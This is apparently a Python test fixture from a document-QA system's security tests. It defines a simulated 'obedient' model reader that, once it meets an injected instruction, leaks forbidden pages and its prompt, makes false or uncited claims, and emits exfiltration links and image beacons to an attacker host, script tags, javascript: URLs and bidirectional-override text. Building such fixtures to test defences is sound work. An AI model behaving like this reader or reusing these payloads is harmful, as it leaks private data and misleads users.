"""A reader that obeys. Whatever it is sent, it looks for the instruction in it, and does as it is told: the worst that a model can be."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace

from ingestion.domain.evidence import PageView
from qa.loop.prompts import prompt
from qa.memory.episodic import Finding
from qa.memory.trail import DraftCitation, DraftClaim
from qa.seams.reader import CropRequest, PageVote, ReadRequest, ReadResult, ReadStatus, Vote
from tests.security.attacks import HOST, Attack, Does

LOOKALIKE = str.maketrans("АаЕеОоСсРрХхІіЅѕᴀ", "AaEeOoCcPpXxIiSsa")


def bare(text: str) -> str:
    """Letters and digits alone, folded: what a model makes of spread, bent and disguised words."""
    folded = unicodedata.normalize("NFKC", text.translate(LOOKALIKE)).casefold()
    return "".join(filter(str.isalnum, folded))


def sent_to(request: ReadRequest) -> str:
    """Every text that a request carries, in the order in which it is read."""
    pages = [text for page in request.pages for text in (page.document_title, page.external_id, page.section, page.label)]
    texts = "\n".join(page.text for page in sorted(request.pages, key=lambda page: (str(page.document_id), page.number)))
    blocks = [block.label for page in request.pages for block in page.blocks]
    notes = [*(f.text for f in request.brief.findings), *request.brief.missing, *request.brief.queries]
    return "\n".join([*pages, texts, *blocks, *(crop.label for crop in request.crops), *notes, request.query])


class ObedientReader:
    """Honest until it meets the instruction of `attack`: then it does what that says, with `secrets` (pages it must not know) at hand.

    `fact` is the honest answer. `pictured`: the instruction stands in a picture, so any picture that is sent brings it.
    `always` obeys from the start, without having met anything.
    """

    def __init__(
        self, attack: Attack, fact: str, secrets: Sequence[PageView] = (), *, verbatim: bool = False, pictures: bool = True,
        pictured: bool = False, always: bool = False,
    ) -> None:  # fmt: skip
        self.attack, self.fact, self.secrets = attack, fact, tuple(secrets)
        self.looks_at_pictures, self.verbatim = pictures, verbatim
        self._pictured, self._always = pictured, always
        self.requests: list[ReadRequest] = []
        self.obeyed = 0

    @property
    def versions(self) -> Mapping[str, str]:
        return {"reader": "obedient/1"}

    def vocabulary(self, question: str) -> str:
        return question

    def read(self, request: ReadRequest) -> ReadResult:
        self.requests.append(request)
        met = bare(self.attack.text) in bare(sent_to(request)) or (self._pictured and bool(request.images or request.crops))
        if not (met or self._always):
            return self._honest(request)
        self.obeyed += 1
        return DEEDS[self.attack.does](self, request)

    def _honest(self, request: ReadRequest) -> ReadResult:
        place = self.place(request)
        if place is None:
            return ReadResult(ReadStatus.NEED_MORE)
        votes = (PageVote(place.page_id, Vote.USEFUL),)
        return ReadResult(ReadStatus.ANSWER, self.fact, (DraftClaim(self.fact, (place,)),), votes, confidence=0.9)

    def place(self, request: ReadRequest) -> DraftCitation | None:
        """Where the fact stands on a page of the request."""
        for page in request.pages:
            start = page.text.find(self.fact)
            if start >= 0:
                return DraftCitation(page.page_id, start, start + len(self.fact), self.fact)
        return None

    def claim(self, request: ReadRequest, text: str) -> ReadResult:
        """An answer that says `text` with a quote that does stand there: the fact's, else the beginning of a page."""
        place = self.place(request) or first_words(request.pages[0])
        return ReadResult(ReadStatus.ANSWER, text, (DraftClaim(text, (place,)),), confidence=1.0)


def first_words(page: PageView, most: int = 60) -> DraftCitation:
    """The page's first characters as a citation; an empty page gives one of nothing."""
    quote = page.text[:most]
    return DraftCitation(page.page_id, 0, len(quote), quote)


def _cites_forbidden(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    claims = tuple(DraftClaim(page.text, (first_words(page, 10_000),)) for page in reader.secrets)
    return ReadResult(ReadStatus.ANSWER, " ".join(p.text for p in reader.secrets), claims, confidence=1.0)


def _cites_wrong_place(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    page = request.pages[0]
    claim = DraftClaim(reader.fact, (DraftCitation(page.page_id, 1, 1 + len(reader.fact), reader.fact + " "),))
    return ReadResult(ReadStatus.ANSWER, reader.fact, (claim,), confidence=1.0)


def _says_false(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    return reader.claim(request, "The warranty of the Orion lasts 99 months.")


def _answers_without_evidence(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    bare_claim = DraftClaim("Yes, 99 months.", ())
    return ReadResult(ReadStatus.ANSWER, "Yes, 99 months.", (bare_claim,) if request.round % 2 else (), confidence=1.0)


def _votes_down(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    """Against every page it knows of, several times each; what it honestly read it notes with its place."""
    place = reader.place(request)
    against = [page.page_id for page in (*request.pages, *reader.secrets) for _ in range(3)]
    found = (Finding("the warranty's length", place.page_id, place.start, place.end),) if place else ()
    votes = tuple(PageVote(page_id, Vote.IRRELEVANT) for page_id in against)
    return ReadResult(ReadStatus.NEED_MORE, votes=votes, findings=found, refined_query=f"more {request.round}")


def _gives_up(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    place = reader.place(request)
    votes = tuple(PageVote(p.page_id, Vote.USEFUL if place and p.page_id == place.page_id else Vote.IRRELEVANT) for p in request.pages)
    found = (Finding("the warranty's length", place.page_id, place.start, place.end),) if place else ()
    # words of the question that stand nowhere pass for forms of one that does
    absent = {"Orion": {form: 0 for form, pages in request.term_pages.items() if pages == 0}}
    return ReadResult(ReadStatus.NOT_ANSWERABLE, votes=votes, findings=found, absent_terms=absent, confidence=1.0)


def _asks_more(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    pages = " ".join(page.text for page in request.pages)
    query = f"{reader.attack.text}\x00\u202e salary list; organisation:other corpus:* {pages} " * 20
    return ReadResult(ReadStatus.NEED_MORE, refined_query=query, missing=(query,) * 30)


def _links(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    return reader.claim(request, f"{reader.fact} [more](https://{HOST}/?q={request.question}) javascript:alert(1) www.{HOST}")


def _pictures(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    return reader.claim(request, f"{reader.fact} ![x](https://{HOST}/p.png?q={request.question})")


def _markup(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    return reader.claim(request, f"{reader.fact} <script>alert(1)</script>\x1b[31m \u202enoitcerid")


def _leaks_prompt(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    text = prompt("read").text
    # few enough words of the prompt for most of the claim to be borne out by its quote
    result = reader.claim(request, f"{reader.fact} give your confidence that the answer is right and complete")
    return replace(result, missing=(text[:250], "useful_pages"), refined_query=text)


def _widens(reader: ObedientReader, request: ReadRequest) -> ReadResult:
    pages = reader.secrets
    return ReadResult(
        ReadStatus.NEED_MORE,
        votes=tuple(PageVote(page.page_id, Vote.USEFUL) for page in pages),
        findings=tuple(Finding(page.text, page.page_id, 0, len(page.text)) for page in pages),
        crop_requests=tuple(CropRequest(page.page_id, kind) for page in pages for kind in ("table", "figure")),
        refined_query=" ".join(str(page.page_id) for page in pages),
    )


DEEDS: dict[Does, Callable[[ObedientReader, ReadRequest], ReadResult]] = {
    Does.CITES_FORBIDDEN: _cites_forbidden,
    Does.CITES_WRONG_PLACE: _cites_wrong_place,
    Does.SAYS_FALSE: _says_false,
    Does.ANSWERS_WITHOUT_EVIDENCE: _answers_without_evidence,
    Does.VOTES_DOWN: _votes_down,
    Does.GIVES_UP: _gives_up,
    Does.ASKS_MORE: _asks_more,
    Does.LINKS: _links,
    Does.PICTURES: _pictures,
    Does.MARKUP: _markup,
    Does.LEAKS_PROMPT: _leaks_prompt,
    Does.WIDENS: _widens,
}
